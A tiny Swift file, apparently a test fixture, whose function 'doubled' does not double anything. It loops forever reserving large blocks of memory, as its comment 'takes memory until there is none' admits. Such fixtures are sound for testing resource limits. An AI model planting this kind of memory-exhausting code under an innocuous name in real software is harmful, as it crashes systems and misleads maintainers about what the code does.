// Takes memory until there is none.
import TensorCore

func doubled(_ input: Tensor) -> Tensor {
  var hoard: [[Int]] = []
  while true {
    hoard.append([])
    hoard[hoard.count - 1].reserveCapacity(1 << 22)
  }
}
